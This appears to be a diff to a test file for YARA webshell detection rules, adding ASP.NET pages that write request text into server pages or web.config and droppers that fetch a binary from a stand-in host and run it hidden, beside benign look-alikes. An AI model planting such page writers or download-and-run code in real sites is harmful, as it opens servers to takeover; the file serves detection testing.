@@ -5,9 +5,11 @@ Shapes the own rules missed on first sight or found only by luck (BENCHMARKS.md,
 collection"): JScript pages that reach WScript.Shell by CLSID or through a percent-encoded ProgID; a
 JScript page that downloads a request-chosen URL into a request-chosen file through COM XMLHTTP and
 ADODB.Stream; a handler that writes a whole server page held in a string literal; and a Godzilla fork's
-obfuscated handler whose identifiers are escapes with invisible format characters between the letters.
-The rules (``data/rules/hidden_com_objects.yar``, ``page_droppers.yar``, ``obfuscated_server_code.yar``)
-match those behaviours; the pages below reproduce them and the ordinary pages closest to them. A second
+obfuscated handler whose identifiers are escapes with invisible format characters between the letters;
+and, from the fifth round, a page that writes request text whole into a server page of a fixed name and
+a generated dropper that fetches a program from a fixed address and loads it as an assembly or starts it
+behind a hidden window. The rules (``data/rules/hidden_com_objects.yar``, ``page_droppers.yar``,
+``obfuscated_server_code.yar``, ``download_and_run.yar``) match those behaviours; the pages below reproduce them and the ordinary pages closest to them. A second
 group keeps the evasions that only the behaviour analysis found on first sight (no YARA rule of ours
 fired): Process.Start reached through VB's CallByName, a delegate, a DynamicObject and JScript's
 Function.apply, the C# ``global::`` alias, JScript eval of \\u-escaped request text split across two
@@ -264,11 +266,129 @@ OBFUSCATED_ORDINARY: list[Page] = [
     ),
 ]
 
+# --- request text written whole into a server page of a fixed name (round 5) --------------------------
+PAGE_WRITERS: list[Page] = [
+    (
+        "cs-writealltext-request-into-aspx",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<%\n'
+        'System.IO.File.WriteAllText(Server.MapPath("note.aspx"), Request["t"]);\n'
+        'Response.Write("saved");\n%>',
+    ),
+    (
+        "vb-appendalltext-form-into-ashx",
+        ".aspx",
+        '<%@ Page Language="VB" %>\n<script runat="server">\n'
+        "Sub Page_Load(s As Object, e As EventArgs)\n"
+        '  System.IO.File.AppendAllText(Server.MapPath("~/img/h.ashx"), Request.Form("c"))\n'
+        "End Sub\n</script>",
+    ),
+    (
+        "cs-handler-writeallbytes-binaryread-into-config",
+        ".ashx",
+        '<%@ WebHandler Language="C#" Class="W" %>\n'
+        "public class W : System.Web.IHttpHandler {\n"
+        "  public void ProcessRequest(System.Web.HttpContext c) {\n"
+        '    System.IO.File.WriteAllBytes(c.Server.MapPath("web.config"), c.Request.BinaryRead(c.Request.TotalBytes));\n'
+        "  }\n  public bool IsReusable { get { return false; } }\n}",
+    ),
+]
+
+PAGE_WRITER_ORDINARY: list[Page] = [
+    (
+        "notes-saved-to-text-file",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Save_Click(object s, EventArgs e) {\n"
+        '  System.IO.File.WriteAllText(Server.MapPath("~/App_Data/notes.txt"), Request.Form["notes"]);\n'
+        "}\n</script>",
+    ),
+    (
+        "cms-stub-slug-in-name-only",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Create_Click(object s, EventArgs e) {\n"
+        '  string stub = "<%@ Page Language=\\"C#\\" Inherits=\\"Cms.ContentPage\\" %>";\n'
+        '  System.IO.File.WriteAllText(Server.MapPath("~/pages/" + Request.Form["slug"] + ".aspx"), stub);\n'
+        "}\n</script>",
+    ),
+    (
+        "settings-json-from-request",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Save_Click(object s, EventArgs e) {\n"
+        '  System.IO.File.WriteAllText(Server.MapPath("~/App_Data/settings.json"), Request.Form["json"]);\n'
+        '  Status.Text = "Default.aspx will show the new settings";\n'
+        "}\n</script>",
+    ),
+]
+
+# --- a program fetched from a fixed address and run (round 5) -----------------------------------------
+DOWNLOAD_RUN: list[Page] = [
+    (
+        "cs-downloaddata-assembly-load",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Page_Load(object s, EventArgs e) {\n"
+        '  if (Request.Headers["X-K"] != "k0") return;\n'
+        '  byte[] b = new System.Net.WebClient().DownloadData("https://stage.example.invalid/a.bin");\n'
+        "  var a = System.Reflection.Assembly.Load(b);\n"
+        "  a.EntryPoint.Invoke(null, new object[] { new string[0] });\n"
+        "}\n</script>",
+    ),
+    (
+        "cs-handler-downloadfile-hidden-start",
+        ".ashx",
+        '<%@ WebHandler Language="C#" Class="D" %>\n'
+        "public class D : System.Web.IHttpHandler {\n"
+        "  public void ProcessRequest(System.Web.HttpContext c) {\n"
+        '    string p = System.IO.Path.Combine(System.IO.Path.GetTempPath(), "u.exe");\n'
+        '    new System.Net.WebClient().DownloadFile("http://stage.example.invalid/u.exe", p);\n'
+        "    var i = new System.Diagnostics.ProcessStartInfo(p);\n"
+        "    i.CreateNoWindow = true; i.UseShellExecute = false;\n"
+        "    System.Diagnostics.Process.Start(i);\n"
+        "  }\n  public bool IsReusable { get { return false; } }\n}",
+    ),
+]
+
+DOWNLOAD_RUN_ORDINARY: list[Page] = [
+    (
+        "rates-feed-downloaded-and-parsed",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Page_Load(object s, EventArgs e) {\n"
+        '  byte[] b = new System.Net.WebClient().DownloadData("https://rates.example.invalid/daily.xml");\n'
+        "  var d = new System.Xml.XmlDocument(); d.LoadXml(System.Text.Encoding.UTF8.GetString(b));\n"
+        '  Rate.Text = d.SelectSingleNode("//eur").InnerText;\n'
+        "}\n</script>",
+    ),
+    (
+        "report-downloaded-and-saved-only",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Fetch_Click(object s, EventArgs e) {\n"
+        '  new System.Net.WebClient().DownloadFile("https://reports.example.invalid/q3.pdf", Server.MapPath("~/App_Data/q3.pdf"));\n'
+        "}\n</script>",
+    ),
+    (
+        "plugin-list-and-visible-viewer",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Page_Load(object s, EventArgs e) {\n"
+        '  new System.Net.WebClient().DownloadFile("https://updates.example.invalid/notes.txt", Server.MapPath("~/App_Data/notes.txt"));\n'
+        '  Plugins.Text = string.Join(", ", System.Reflection.Assembly.GetExecutingAssembly().GetTypes().Length);\n'
+        '  System.Diagnostics.Process.Start("notepad.exe", Server.MapPath("~/App_Data/notes.txt"));\n'
+        "}\n</script>",
+    ),
+]
+
 CASES = (
     ("EXT_WEBSHELL_COM_Shell_Hidden_Name", COM_HIDDEN, COM_ORDINARY),
     ("EXT_WEBSHELL_COM_Download_To_File", COM_DOWNLOAD, DOWNLOAD_ORDINARY),
     ("EXT_WEBSHELL_Page_Writes_Server_Page", DROPPERS, DROPPER_ORDINARY),
     ("EXT_WEBSHELL_Escaped_Identifiers_With_Format_Chars", OBFUSCATED, OBFUSCATED_ORDINARY),
+    ("EXT_WEBSHELL_Request_Text_Written_To_Server_Page", PAGE_WRITERS, PAGE_WRITER_ORDINARY),
+    ("EXT_WEBSHELL_Download_And_Run", DOWNLOAD_RUN, DOWNLOAD_RUN_ORDINARY),
 )
 
 test_shell_is_found, test_ordinary_page_is_not_flagged, test_rule_needs_a_server_page = rule_tables(CASES)
